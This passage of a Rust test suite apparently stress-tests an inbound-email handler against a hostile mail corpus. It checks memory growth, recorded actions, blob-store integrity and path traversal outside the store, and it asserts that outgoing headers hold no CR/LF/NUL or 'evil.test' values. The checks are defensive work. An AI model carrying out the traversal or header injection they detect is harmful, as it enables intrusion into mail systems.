            .actions
            .entry("replay (first copy)")
            .or_default()
            .entry(action)
            .or_default() += 1;
        tally.emails += 1;
        tally.recorded += 1;
    }
    *tally
        .actions
        .entry("replay (again)")
        .or_default()
        .entry("ignored")
        .or_default() += replays;
    tally.emails += replays;
    let hwm_end = vm_hwm_kb();

    // The report.
    let mut totals: BTreeMap<&str, usize> = BTreeMap::new();
    let mut table = String::new();
    for (category, actions) in &tally.actions {
        let n: usize = actions.values().sum();
        let _ = writeln!(table, "  {category:<22} {n:>5}  {actions:?}");
        for (a, k) in actions {
            *totals.entry(a).or_default() += k;
        }
    }
    for (category, reasons) in &tally.reasons {
        let _ = writeln!(table, "  refused in {category:<15} {reasons:?}");
    }
    eprintln!(
        "hostile_mail: {} emails ({:.1} MB, plus the replays), actions {totals:?}\n{table}\
         VmHWM: {hwm_start} kB at start, {hwm_built} kB with the corpus built, {hwm_end} kB at the end \
         (growth {} kB)",
        tally.emails,
        tally.bytes as f64 / 1e6,
        hwm_end.saturating_sub(hwm_start)
    );
    if !tally.problems.is_empty() {
        let shown: Vec<&String> = tally.problems.iter().take(40).collect();
        panic!(
            "{} problems:\n{}",
            tally.problems.len(),
            shown.iter().map(|s| s.as_str()).collect::<Vec<_>>().join("\n")
        );
    }
    assert!(tally.emails >= 1000, "only {} emails", tally.emails);
    assert!(
        hwm_end.saturating_sub(hwm_start) < MAX_GROWTH_KB,
        "peak memory grew by {} kB",
        hwm_end - hwm_start
    );

    // Every message is recorded once, with its action.
    let recorded = db.begin().await.unwrap().inbound_mail_actions().await.unwrap();
    assert_eq!(recorded.len(), tally.recorded, "one inbound_mail row per message");
    let known = [
        "resubmitted",
        "answered_status",
        "asked_for_attachment",
        "ignored",
        "bounce_recorded",
        "quarantined",
        "escalated",
    ];
    assert!(recorded.iter().all(|(_, a)| known.contains(&a.as_str())));

    // The blob directory holds the raw messages and accepted files, each under
    // its own hash, and no hostile file; nothing was written beside it.
    let mut allowed = tally.raw_shas.clone();
    allowed.extend(tally.accepted_shas.iter().cloned());
    allowed.extend(c.benign.iter().cloned());
    for rel in files_under(&blob_dir) {
        let parts: Vec<String> = rel.iter().map(|p| p.to_string_lossy().into_owned()).collect();
        assert!(
            parts.len() == 3 && parts[0] == "sha256" && parts[2].len() == 64 && parts[2].starts_with(&parts[1]),
            "unexpected file in the blob directory: {}",
            rel.display()
        );
        let data = std::fs::read(blob_dir.join(&rel)).unwrap();
        let sha = sha256_hex(&data);
        assert_eq!(sha, parts[2], "{} holds other bytes", rel.display());
        assert!(!hostile.contains(&sha), "a hostile file was stored: {}", rel.display());
        assert!(
            allowed.contains(&sha),
            "a stored file that is neither a message nor an accepted file: {}",
            rel.display()
        );
    }
    assert_eq!(
        names_in(root.path()),
        HashSet::from(["blobs".to_owned()]),
        "written beside the blob directory"
    );
    let new_outside: Vec<String> = names_in(&outside).difference(&outside_before).cloned().collect();
    let escaped: Vec<&String> = new_outside
        .iter()
        .filter(|n| TRAVERSAL_TARGETS.iter().any(|t| n.contains(t)) || n.contains(".."))
        .collect();
    assert!(escaped.is_empty(), "written outside the blob directory: {escaped:?}");

    // No claim holds a hostile file; every email we queued has clean headers.
    let mut tx = db.begin().await.unwrap();
    for id in 1042..=1047 {
        for a in tx.attachments(id).await.unwrap() {
            assert!(!hostile.contains(&a.attachment.sha256), "RDM-{id} holds a hostile file");
            if let Some(key) = &a.attachment.blob_key {
                assert_eq!(*key, BlobStore::key_for(&a.attachment.sha256));
            }
        }
    }
    let members = [
        "budi.santoso@example.test",
        "sarah.wijaya@example.test",
        "rizky.pratama@example.test",
        "dewi.lestari@example.test",
    ];
    for job in tx.jobs(None, 1_000_000).await.unwrap() {
        if job.kind != JobKind::Email {
            continue;
        }
        let p = &job.payload;
        assert!(members.contains(&p["to"].as_str().unwrap()), "email to {}", p["to"]);
        for field in ["to", "to_name", "subject", "message_id", "reply_to", "in_reply_to"] {
            let v = p[field].as_str().unwrap_or_default();
            assert!(!v.contains(['\r', '\n', '\0']), "email header {field} = {v:?}");
            assert!(!v.contains("evil.test"), "email header {field} = {v:?}");
        }
    }
}
